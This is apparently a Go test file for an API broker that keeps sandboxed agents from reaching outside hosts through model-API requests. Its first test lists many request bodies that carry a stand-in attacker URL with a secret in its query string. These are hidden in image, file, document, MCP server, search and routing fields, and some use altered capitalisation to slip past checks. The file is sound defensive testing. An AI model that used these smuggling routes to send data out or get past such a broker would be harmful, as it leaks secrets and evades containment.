package broker_test

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// Whatever is behind the walls can ask the broker itself, so no request has the endpoint reach anything else or give more than was reserved.
func TestNoCallReachesFurther(t *testing.T) {
	t.Parallel()
	const leak = "https://attacker.example/?code=secret"
	for name, c := range map[string]struct{ path, body string }{
		"a picture by its address":   {"/v1/chat/completions", `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + leak + `"}}]}]}`},
		"a picture in any spelling":  {"/v1/chat/completions", `{"messages":[{"role":"user","content":[{"type":"image_url","Image_URL":"` + leak + `"}]}]}`},
		"a picture of messages":      {"/v1/messages", `{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}]}`},
		"a document in an answer":    {"/v1/messages", `{"messages":[{"role":"user","content":[{"type":"tool_result","content":[{"type":"document","source":{"type":"url","url":"` + leak + `"}}]}]}]}`},
		"a picture of responses":     {"/v1/responses", `{"input":[{"role":"user","content":[{"type":"input_image","image_url":"` + leak + `"}]}]}`},
		"a file of responses":        {"/v1/responses", `{"input":[{"role":"user","content":[{"type":"input_file","file_url":"` + leak + `"}]}]}`},
		"a file of chat":             {"/v1/chat/completions", `{"messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"` + leak + `"}}]}]}`},
		"a server of tools":          {"/v1/messages", `{"messages":[],"mcp_servers":[{"type":"url","url":"` + leak + `"}]}`},
		"a server among tools":       {"/v1/responses", `{"input":"x","tools":[{"type":"mcp","server_url":"` + leak + `"}]}`},
		"a server in a group":        {"/v1/responses", `{"input":"x","tools":[{"type":"namespace","tools":[{"type":"mcp","server_url":"` + leak + `"}]}]}`},
		"a search":                   {"/v1/messages", `{"messages":[],"tools":[{"type":"web_search_20250305","name":"attacker.example"}]}`},
		"a search of chat":           {"/v1/chat/completions", `{"messages":[],"web_search_options":{"x":"attacker.example"},"plugins":[{"id":"attacker.example"}]}`},
		"other models":               {"/v1/chat/completions", `{"messages":[],"models":["attacker.example"],"route":"attacker.example","provider":{"order":["attacker.example"]}}`},
		"many answers":               {"/v1/chat/completions", `{"messages":[],"n":100,"service_tier":"attacker.example"}`},
		"a model in any spelling":    {"/v1/chat/completions", `{"messages":[],"MODEL":"attacker.example"}`},
		"what is kept there":         {"/v1/responses", `{"input":"x","previous_response_id":"attacker.example","conversation":"attacker.example"}`},
		"fewer tokens than it takes": {"/v1/messages", `{"max_tokens":9000000,"MAX_TOKENS":1}`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			l := &ledger{}
			d, client := open(t, l, func(_ http.ResponseWriter, r *http.Request) {
				body, err := io.ReadAll(r.Body)
				if text := string(body); err != nil || strings.Contains(text, "attacker.example") || strings.Contains(text, `"n":`) || strings.Contains(text, "MAX") {
					t.Errorf("the endpoint was asked %s, %v", body, err)
				}
			})
			_, _ = ask(t, client, c.path, c.body)
			if err := d.Close(); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// What agents ask for in earnest goes through as it is.
func TestACallGoesThroughAsItIs(t *testing.T) {
	t.Parallel()
	const body = `{"max_tokens":5,"messages":[{"role":"assistant","content":[{"type":"tool_use","input":{"url":"https://docs.example"}}]},{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"aGk="}},{"type":"text","text":"see https://docs.example"}]}],` +
		`"model":"right/model","temperature":1.0,"tools":[{"name":"Read","input_schema":{"properties":{"url":{"type":"string"}}}},{"type":"bash_20250124","name":"bash"},{"type":"function","function":{"name":"f"}}]}`
	l := &ledger{}
	d, client := open(t, l, func(_ http.ResponseWriter, r *http.Request) {
		if got, err := io.ReadAll(r.Body); err != nil || string(got) != body {
			t.Errorf("the endpoint was asked %s, %v", got, err)
		}
	})
	if status, said := ask(t, client, "/v1/messages", body); status != http.StatusOK {
		t.Errorf("%d %s", status, said)
	}
	if err := d.Close(); err != nil {
		t.Fatal(err)
	}
}
